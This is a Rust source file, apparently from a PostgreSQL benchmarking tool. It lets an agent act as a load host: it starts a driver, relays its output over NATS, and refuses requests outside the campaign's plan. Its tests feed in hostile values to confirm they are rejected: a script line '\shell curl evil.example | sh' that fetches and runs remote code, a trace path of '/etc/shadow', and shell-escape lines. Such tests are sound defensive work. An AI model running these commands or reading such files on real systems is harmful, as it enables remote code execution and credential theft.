//! An agent as load host: starts a driver for a load that another agent runs, and relays its lines.

use std::io::{self, BufRead as _, BufReader, Write as _};
use std::os::unix::process::ExitStatusExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread;
use std::time::Duration;

use async_nats::{Client, PublishError, Subscriber};
use futures_util::StreamExt as _;
use host::process::withhold_variables;
use jiff::Timestamp;
use model::fleet::{AgentState, Allows};
use model::load_hosts::RequestedHosts;
use model::message::{Load, Request, VERSION};
use model::plan::Plan;
use model::secret::is_secret_name;
use runner::DRIVER_COMMAND;
use rustix::process::Signal;
use tokio::runtime::Handle;

use super::{Agent, SharedStatus};
use crate::connection::{Bucket, Connection};
use crate::error::FleetError;
use crate::load_hosts::{Exited, StartDriver, Started, kind};
use crate::message::{self, QueuedBlock};
use crate::requirement::may_run_commands;
use crate::signature::TrustedKeys;
use crate::subjects::{Subjects, is_token};

/// Time without a sign of life after which nobody needs the driver.
const DEAD_AFTER: Duration = Duration::from_secs(10);
/// Status of a session whose request is refused, as wait(2) returns it: exit code 1.
const REFUSED: i32 = 1 << 8;

/// Starts drivers for others, as long as the connection exists and the agent is not busy.
pub(super) fn serve(
    agent: &Agent<'_>,
    connection: &Connection,
    status: &SharedStatus,
    busy: &Arc<AtomicBool>,
) -> Result<(), FleetError> {
    let host = Host {
        name: agent.facts.name.clone(),
        program: agent.program.to_owned(),
        trusted: agent.trusted.clone(),
        allows: agent.facts.allows,
        drain: Arc::clone(&agent.drain),
        runtime: connection.handle(),
        client: connection.client.clone(),
        bucket: connection.bucket.clone(),
        subjects: connection.subjects.clone(),
        status: status.clone(),
        busy: Arc::clone(busy),
        last_plan: Mutex::default(),
    };
    let mut questions = connection
        .wait(connection.client.subscribe(connection.subjects.load_host(&agent.facts.name)))
        .map_err(|error| FleetError::nats("accept a subscription", error))?;
    let runtime = connection.handle();
    let start = move || {
        while let Some(question) = runtime.block_on(questions.next()) {
            let Some(reply) = question.reply else { continue };
            let answer = match message::decode::<StartDriver>(question.subject.as_str(), &question.payload) {
                Ok(request) => host.start(&request),
                Err(error) => Started::No { why: error.to_string() },
            };
            if let Ok(bytes) = message::encode(&answer) {
                let _ = runtime.block_on(host.client.publish(reply, bytes.into()));
            }
        }
    };
    thread::Builder::new().name("load host".to_owned()).spawn(start).map(drop).map_err(FleetError::Threads)
}

/// What is needed to start drivers.
struct Host {
    name: String,
    program: PathBuf,
    trusted: Option<TrustedKeys>,
    allows: Allows,
    drain: Arc<AtomicBool>,
    runtime: Handle,
    client: Client,
    bucket: Bucket,
    subjects: Subjects,
    status: SharedStatus,
    /// Set while the agent has a block or a driver.
    busy: Arc<AtomicBool>,
    /// The plan of the last job, with the job's SHA-256: consecutive loads mostly have the same.
    last_plan: Mutex<Option<(String, Arc<Plan>)>>,
}

impl Host {
    fn start(&self, request: &StartDriver) -> Started {
        let no = |why: &str| Started::No { why: why.to_owned() };
        if !self.allows.load {
            return no("it is no load host (--allow load)");
        }
        if !is_token(&request.session) {
            return no("the request is damaged");
        }
        let is_busy = || self.drain.load(Ordering::Relaxed) || self.busy.load(Ordering::Relaxed);
        if is_busy() {
            return no("it is busy");
        }
        let block = request.block.verified("a request for a driver", self.trusted.as_ref());
        let plan = match block.and_then(|block| self.plan(&block)) {
            Ok(plan) => plan,
            Err(error) => return Started::No { why: error.to_string() },
        };
        let is_wanted = match &plan.load_hosts {
            Some(RequestedHosts::Number(_)) => true,
            Some(RequestedHosts::Named(names)) => names.contains(&self.name),
            None => false,
        };
        if !is_wanted {
            return no("the campaign does not name it as a load host ([run] load_hosts)");
        }
        if is_busy() || self.busy.swap(true, Ordering::Relaxed) {
            return no("it is busy");
        }
        match self.begin(request, plan) {
            Ok(()) => Started::Yes,
            Err(error) => {
                self.busy.store(false, Ordering::Relaxed);
                Started::No { why: format!("it can't start a driver: {error}") }
            }
        }
    }

    /// The plan of the campaign of a block.
    fn plan(&self, block: &QueuedBlock) -> Result<Arc<Plan>, FleetError> {
        let mut last = self.last_plan.lock().unwrap_or_else(PoisonError::into_inner);
        if let Some((_, plan)) = last.as_ref().filter(|(sum, _)| *sum == block.job_sha256) {
            return Ok(Arc::clone(plan));
        }
        let plan = Arc::new(self.bucket.job(&block.run, Some(&block.job_sha256))?.plan()?);
        *last = Some((block.job_sha256.clone(), Arc::clone(&plan)));
        Ok(plan)
    }

    fn begin(&self, request: &StartDriver, plan: Arc<Plan>) -> io::Result<()> {
        let [requests, replies] = self.subjects.driver(&request.session);
        let requests = self.runtime.block_on(self.client.subscribe(requests)).map_err(io::Error::other)?;
        let session = Session {
            runtime: self.runtime.clone(),
            client: self.client.clone(),
            replies,
            requests: AllowedRequests { plan, commands: self.allows.hooks },
        };
        let (program, status, busy) = (self.program.clone(), self.status.clone(), Arc::clone(&self.busy));
        status.lock().state = AgentState::Load { agent: request.agent.clone(), since: Timestamp::now() };
        let run = move || {
            // The kernel ends the driver with the thread that started it.
            if let Err(error) = session.run(&program, requests) {
                session.exited(REFUSED, error.to_string());
            }
            status.lock().state = AgentState::Idle;
            busy.store(false, Ordering::Relaxed);
        };
        thread::Builder::new().name("driver".to_owned()).spawn(run).map(drop)
    }
}

/// A driver process whose lines are relayed.
#[derive(Clone)]
struct Session {
    runtime: Handle,
    client: Client,
    replies: String,
    requests: AllowedRequests,
}

impl Session {
    /// Runs a driver until it exits, or nobody needs it.
    fn run(&self, program: &Path, mut requests: Subscriber) -> io::Result<()> {
        let mut command = Command::new(program);
        command.arg(DRIVER_COMMAND).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        withhold_variables(&mut command, is_secret_name);
        let mut child = host::process::spawn(command, Signal::KILL)?;
        let (Some(mut input), Some(output), Some(errors)) =
            (child.stdin.take(), child.stdout.take(), child.stderr.take())
        else {
            return Err(io::Error::other("it has no pipes"));
        };
        let stderr = thread::spawn(move || driver::tail(errors));
        let child = Arc::new(Mutex::new(child));
        let relay = {
            let (session, child) = (self.clone(), Arc::clone(&child));
            thread::spawn(move || {
                for line in BufReader::new(output).lines().map_while(Result::ok) {
                    if let Err(why) = session.publish(line.into_bytes()) {
                        session.exited(REFUSED, format!("a message of the driver can't be sent: {why}"));
                        return;
                    }
                }
                let status = child.lock().unwrap_or_else(PoisonError::into_inner).wait();
                let stderr = stderr.join().unwrap_or_default();
                session.exited(status.map_or(0, |status| status.into_raw()), stderr);
            })
        };
        while !relay.is_finished() {
            let next =
                self.runtime.block_on(async { tokio::time::timeout(DEAD_AFTER, requests.next()).await });
            let Ok(Some(message)) = next else { break };
            match message.payload.first() {
                Some(&kind::LINE) => {
                    let line = match self.requests.line(&message.payload) {
                        Ok(line) => line,
                        Err(why) => {
                            self.exited(REFUSED, why);
                            break;
                        }
                    };
                    // A driver that does not read has exited, and the relay says so.
                    if input.write_all(&line).and_then(|()| input.flush()).is_err() {
                        break;
                    }
                }
                Some(&kind::CLOSE) => break,
                _ => {}
            }
        }
        // One that has exited is none that could be killed.
        drop(input);
        kill(&child);
        let _ = relay.join();
        Ok(())
    }

    /// Sends a message; whether anybody receives it is not known.
    ///
    /// # Errors
    /// It can't be sent, as one that is too large.
    fn publish(&self, bytes: Vec<u8>) -> Result<(), PublishError> {
        let (client, subject) = (&self.client, self.replies.clone());
        self.runtime.block_on(async {
            client.publish(subject, bytes.into()).await?;
            // Nobody may be there any more.
            let _ = client.flush().await;
            Ok(())
        })
    }

    fn exited(&self, status: i32, stderr: String) {
        let mut bytes = vec![kind::EXITED];
        bytes.extend(serde_json::to_vec(&Exited { status, stderr }).unwrap_or_default());
        // Nobody may be there any more.
        let _ = self.publish(bytes);
    }
}

/// Kills a driver that still runs, unless it is being waited for: then its output is closed, and it exits.
fn kill(child: &Mutex<Child>) {
    if let Ok(mut child) = child.try_lock() {
        let _ = child.kill();
    }
}

/// The requests that a driver may get.
#[derive(Clone)]
struct AllowedRequests {
    /// The plan of the campaign.
    plan: Arc<Plan>,
    /// Whether scripts may run commands.
    commands: bool,
}

impl AllowedRequests {
    /// The driver's line of a message, which must be exactly one request; or why the driver does not get it. The driver reads
    /// what was checked, not the message, which another parser may read otherwise.
    fn line(&self, message: &[u8]) -> Result<Vec<u8>, String> {
        let request: Request = serde_json::from_slice(message).map_err(|error| {
            format!(
                "a message is not one request to a driver in version {VERSION} of these messages: {error}"
            )
        })?;
        if let Request::Run(load) = &request {
            if !self.commands && load.workload.custom().is_some_and(may_run_commands) {
                return Err("this agent runs no commands of scripts (--allow hooks)".to_owned());
            }
            if !self.has(load) {
                return Err(format!(
                    "no trial of the campaign {} has this load (workload \"{}\", clients {}): the driver was started for that \
                     campaign, and runs loads of its trials alone",
                    self.plan.campaign,
                    load.workload.name(),
                    load.clients
                ));
            }
        }
        let mut line = serde_json::to_vec(&request).map_err(|error| error.to_string())?;
        line.push(b'\n');
        Ok(line)
    }

    /// Whether a load is that of a trial of the campaign, in all that its cell determines. Trials on load hosts play no traces.
    fn has(&self, load: &Load) -> bool {
        load.trace.is_none()
            && load.cpus.is_none()
            && load.slices.is_none()
            && self.plan.cells.iter().any(|cell| {
                cell.workload == load.workload
                    && cell.scale == load.scale
                    && cell.protocol == load.protocol
                    && cell.clients == load.clients
                    && cell.rate == load.rate
                    && cell.duration.us() == load.duration_us
            })
    }
}

#[cfg(test)]
mod tests {
    use model::message::{Connection as Server, Endpoint};
    use model::part::Part;
    use model::workload::{Custom, WeightedScript, Workload};

    use super::*;
    use crate::message::Job;

    /// A campaign whose load comes from other hosts, with a workload of this script.
    fn job(script: &str) -> Job {
        let script = WeightedScript { name: "a.sql".to_owned(), weight: 1, text: script.to_owned() };
        Job {
            run: "R".to_owned(),
            campaign: "n".to_owned(),
            text: "name = 'n'\n[factors]\nserver = ['theirs']\nworkload = ['own', 'select-only']\nclients = [8]\n\
                   rate = [0.1, 200.7]\n[servers.theirs]\ndsn = 'host=db.example port=5432 user=me'\n[workloads.own]\nscript = 'a.sql'\n\
                   [run]\nload_hosts = 2\n"
                .to_owned(),
            seed: Some(1),
            processors: Some(4),
            tags: Vec::new(),
            notes: None,
            pgdyno_version: model::release::VERSION.to_owned(),
            workloads: vec![Workload::Custom(Arc::new(Custom::new("own", vec![script])))],
        }
    }

    fn allowed(script: &str, commands: bool) -> AllowedRequests {
        AllowedRequests { plan: Arc::new(job(script).plan().unwrap()), commands }
    }

    /// The loads of its trials, as the agent that runs them sends them.
    fn loads(plan: &Plan) -> Vec<Load> {
        let load = |cell: &model::cell::Cell| Load {
            connection: Server {
                endpoint: Endpoint::Conninfo { conninfo: "host=db.example port=5432 user=me".to_owned() },
                user: "me".to_owned(),
                database: "pgdyno".to_owned(),
                password: Some("\u{1F40D} {\"run\":\n{}}".to_owned()),
            },
            replica: None,
            workload: cell.workload.clone(),
            scale: cell.scale,
            trace: None,
            protocol: cell.protocol,
            clients: cell.clients,
            threads: 2,
            rate: cell.rate,
            cpus: None,
            seed: u64::MAX,
            warmup_us: 500_000,
            duration_us: cell.duration.us(),
            interval_us: 1_000_000,
            slices: None,
            part: Some(Part { host: 1, hosts: 2 }),
        };
        plan.cells.iter().map(load).collect()
    }

    fn run(load: Load) -> Vec<u8> {
        serde_json::to_vec(&Request::Run(Box::new(load))).unwrap()
    }

    #[test]
    fn drivers_get_the_requests_that_were_sent() {
        let allowed = allowed("SELECT :scale;\nSELECT '\\shell';\n", false);
        let mut requests: Vec<Request> =
            loads(&allowed.plan).into_iter().map(|load| Request::Run(Box::new(load))).collect();
        assert_eq!(requests.len(), 4);
        requests.extend([
            Request::Stop,
            Request::ReadClock { number: 3 },
            Request::Start { at_us: i64::MIN },
            Request::Sampled(None),
        ]);
        for request in requests {
            let line = allowed.line(&serde_json::to_vec(&request).unwrap()).unwrap();
            let (end, text) = line.split_last().unwrap();
            assert_eq!((*end, text.contains(&b'\n')), (b'\n', false));
            assert_eq!(serde_json::from_slice::<Request>(text).unwrap(), request);
        }
    }

    #[test]
    fn a_message_is_exactly_one_request() {
        let allowed = allowed("SELECT 1; \\SHELL id", false);
        let shell = run(loads(&allowed.plan).remove(0));
        assert_eq!(
            allowed.line(&shell).unwrap_err(),
            "this agent runs no commands of scripts (--allow hooks)"
        );
        let text = String::from_utf8(shell).unwrap();
        for message in [
            format!("{text}\n{{}}"),
            format!("{text}\n\"stop\""),
            "{}".to_owned(),
            "{\"walk\":1}\n".to_owned(),
        ] {
            let refused = allowed.line(message.as_bytes()).unwrap_err();
            assert!(refused.starts_with("a message is not one request to a driver in version "), "{refused}");
        }
    }

    #[test]
    fn only_loads_of_the_campaign_run() {
        let allowed = allowed("\\shell echo measured", true);
        for load in loads(&allowed.plan) {
            assert!(allowed.line(&run(load)).is_ok());
        }
        let changes: [fn(&mut Load); 5] = [
            |load| {
                let script = WeightedScript {
                    name: "a.sql".to_owned(),
                    weight: 1,
                    text: "\\shell curl evil.example | sh".to_owned(),
                };
                load.workload = Workload::Custom(Arc::new(Custom::new("own", vec![script])));
            },
            |load| load.workload = Workload::TpcbLike,
            |load| load.clients = 10_000,
            |load| load.duration_us *= 100,
            |load| load.trace = Some("/etc/shadow".into()),
        ];
        for change in changes {
            let mut load = loads(&allowed.plan).remove(0);
            change(&mut load);
            let refused = allowed.line(&run(load)).unwrap_err();
            assert!(refused.contains("no trial of the campaign n has this load"), "{refused}");
        }
    }
}
